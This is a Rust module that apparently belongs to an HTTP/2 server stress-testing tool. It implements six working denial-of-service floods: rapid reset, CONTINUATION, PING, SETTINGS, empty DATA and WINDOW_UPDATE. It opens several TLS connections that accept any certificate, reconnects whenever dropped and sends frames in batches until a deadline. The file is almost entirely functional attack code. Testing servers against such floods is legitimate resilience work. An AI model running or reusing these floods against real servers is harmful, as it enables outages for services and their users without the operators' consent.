//! Frames of HTTP/2 that cost the client nothing, as many as the server takes.
//!
//! Whoever is let go comes back. The answers are read, so that nothing holds the server up.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, split},
    time::{Instant, sleep, timeout_at},
};
use tokio_rustls::TlsConnector;

use super::{Target, crowd};
use wire::{Frame, flag, kind, setting};

use crate::{
    h2,
    rig::{Error, any_certificate, client::connect},
    watch::Held,
};

/// Floods at once.
pub const CONNECTIONS: usize = 4;

/// Frames in one write.
const BATCH: u32 = 100;

/// From an end to the next connection.
const PAUSE: Duration = Duration::from_millis(100);

/// What comes first, and the frames that follow; each batch goes on at the stream where the last
/// one ended.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    opening: fn() -> Vec<u8>,
    frame: fn(u32) -> Vec<u8>,
}

pub const FLOODS: [(&str, &str, Flood); 6] = [
    (
        "flood-rapid-reset",
        "HTTP/2 flood: rapid reset",
        Flood {
            opening: Vec::new,
            frame: reset,
        },
    ),
    (
        "flood-continuation",
        "HTTP/2 flood: CONTINUATION",
        Flood {
            opening: half_head,
            frame: continuation,
        },
    ),
    (
        "flood-ping",
        "HTTP/2 flood: PING",
        Flood {
            opening: Vec::new,
            frame: |_| Frame::ping([7; 8]).encode(),
        },
    ),
    (
        "flood-settings",
        "HTTP/2 flood: SETTINGS",
        Flood {
            opening: Vec::new,
            frame: |_| Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]).encode(),
        },
    ),
    (
        "flood-empty-data",
        "HTTP/2 flood: empty DATA",
        Flood {
            opening: || h2::request(1, "POST", "/echo-len"),
            frame: |_| Frame::data(1, [], false).encode(),
        },
    ),
    (
        "flood-window-update",
        "HTTP/2 flood: WINDOW_UPDATE",
        Flood {
            opening: Vec::new,
            frame: |_| Frame::window_update(0, 1).encode(),
        },
    ),
];

fn reset(stream: u32) -> Vec<u8> {
    const CANCEL: u32 = 8;
    let reset = Frame::rst_stream(stream, CANCEL).encode();
    [h2::request(stream, "GET", "/"), reset].concat()
}

fn half_head() -> Vec<u8> {
    let half = Frame::new(kind::HEADERS, flag::END_STREAM, 1, h2::fields("GET", "/"));
    half.encode()
}

/// A hundred fields of one byte.
fn continuation(_: u32) -> Vec<u8> {
    Frame::new(kind::CONTINUATION, 0, 1, [0x8f; 100]).encode()
}

pub async fn run(flood: Flood, target: Target) -> Result<Vec<Held>, Error> {
    let connector = any_certificate(b"h2")?;
    crowd(CONNECTIONS, || {
        again_and_again(flood, target, connector.clone())
    })
    .await
}

async fn again_and_again(
    flood: Flood,
    target: Target,
    connector: TlsConnector,
) -> Result<Vec<Held>, Error> {
    let mut held = Vec::new();
    while Instant::now() < target.until {
        held.extend(once(flood, target, &connector).await.ok());
        sleep(PAUSE).await;
    }
    Ok(held)
}

async fn once(flood: Flood, target: Target, connector: &TlsConnector) -> Result<Held, Error> {
    let tls = timeout_at(target.until, connect(target.addr, connector)).await??;
    let begun = Instant::now();
    let (mut from, mut to) = split(tls);
    let reading = async {
        let mut answers = vec![0; 1 << 16];
        while let Ok(1..) = from.read(&mut answers).await {}
    };
    let writing = async {
        to.write_all(&h2::begin(&[])).await?;
        to.write_all(&(flood.opening)()).await?;
        for batch in 0.. {
            to.write_all(&frames(flood, batch)).await?;
            to.flush().await?;
        }
        Ok::<_, std::io::Error>(())
    };
    let either = async {
        tokio::select! {
            () = reading => {}
            _ = writing => {}
        }
    };
    let ended = timeout_at(target.until, either).await.is_ok();
    Ok(Held {
        time: begun.elapsed(),
        ended,
    })
}

fn frames(flood: Flood, batch: u32) -> Vec<u8> {
    let numbers = batch * BATCH..(batch + 1) * BATCH;
    // Clients' streams are odd.
    numbers
        .flat_map(|n| (flood.frame)(n.saturating_mul(2) + 1))
        .collect()
}
